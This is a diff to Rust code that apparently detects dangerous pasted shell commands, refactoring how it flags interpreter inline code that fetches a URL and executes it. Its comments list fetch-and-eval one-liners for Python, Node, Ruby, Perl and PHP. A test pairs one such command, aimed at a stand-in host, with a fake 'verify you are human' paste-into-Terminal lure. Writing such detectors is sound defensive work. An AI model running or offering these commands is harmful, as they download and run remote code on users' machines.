@@ -750,7 +750,8 @@ fn piped_to_shell(flat: &str) -> bool {
 /// wget names its file by end in it. (A `.` elsewhere is an argument: `jq . data.json`.)
 /// Review 30 MH-M1: inline code (`-c`, `-e`, `-r`) naming the saved file runs it
 /// (`python3 -c "exec(open('/tmp/v').read())"`, `perl -e 'do "/tmp/v"'`), as code reading a pipe
-/// does; and after an archive is unpacked (`unzip`, `tar x…`) the file a runner is given may be
+/// does, and so does inline code fetching an address and running it (`fetch_run`); and after an
+/// archive is unpacked (`unzip`, `tar x…`) the file a runner is given may be
 /// the archive's.
 #[inline(never)]
 fn runs_saved(flat: &str) -> bool {
@@ -781,12 +782,23 @@ fn runs_saved(flat: &str) -> bool {
             .take_while(|a| a.1.starts_with('-'))
             .any(|a| matches!(a.1, "-c" | "-e" | "-r"))
         {
-            return args.iter().any(|a| saved(a.1));
+            return fetch_run(flat) || args.iter().any(|a| saved(a.1));
         }
         args.iter()
             .find(|a| !a.1.starts_with('-'))
             .is_some_and(|a| unpacked || saved(a.1))
     })
+}
+
+/// Inline code that fetches an address and runs what it read (`python3 -c
+/// "exec(urlopen(…).read())"`, `node -e` with `fetch` and `eval`, `ruby -e 'eval(URI.open(…)
+/// .read)'`, `perl -MLWP::Simple -e 'eval get …'`, `php -r 'eval(file_get_contents(…));'`):
+/// `curl … | python3` by another road (review 39 R39-M4). Code printing what it fetched is docs'.
+fn fetch_run(flat: &str) -> bool {
+    has_url(flat)
+        && ["exec(", "eval", "new function"]
+            .iter()
+            .any(|w| has(flat, w))
 }
 
 /// A download saved to a Windows path and that same file run later on the line (review 32
@@ -1108,15 +1120,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"]
         .iter()
         .any(|s| has(flat, s));
-    // An interpreter's inline code that fetches an address and runs what it read (`python3 -c
-    // "exec(urlopen(…).read())"`, `node -e` with `fetch` and `eval`, `ruby -e 'eval(URI.open(…)
-    // .read)'`, `perl -MLWP::Simple -e 'eval get …'`, `php -r 'eval(file_get_contents(…));'`):
-    // `curl … | python3` by another road (review 39 R39-M4). Printing what it fetched is docs'.
-    let inline_run = RUNNERS[6..12].iter().any(|r| prog(r))
-        && toks.iter().any(|t| matches!(*t, "-c" | "-e" | "-r"))
-        && has_url(flat)
-        && (has_word(flat, "exec") || has_word(flat, "eval") || has(flat, "new function"));
-    if fetch && (to_shell || substituted) || inline_run {
+    if (fetch || fetch_run(flat)) && (to_shell || substituted) {
         out.push(Shape::PipeToShell);
     }
     // Strongest first, no duplicates (a sort would add a monomorphised sort to the Wasm).
@@ -2416,7 +2420,8 @@ mod tests {
         ] {
             assert!(shapes_of(cmd).is_empty(), "{cmd}");
         }
-        let mac = "Verify you are human. Open Terminal, paste the code with Cmd + V and press Return.";
+        let mac =
+            "Verify you are human. Open Terminal, paste the code with Cmd + V and press Return.";
         assert!(judged(
             "python3 -c \"import urllib.request as u;exec(u.urlopen('http://relay.test/p').read())\"",
             mac
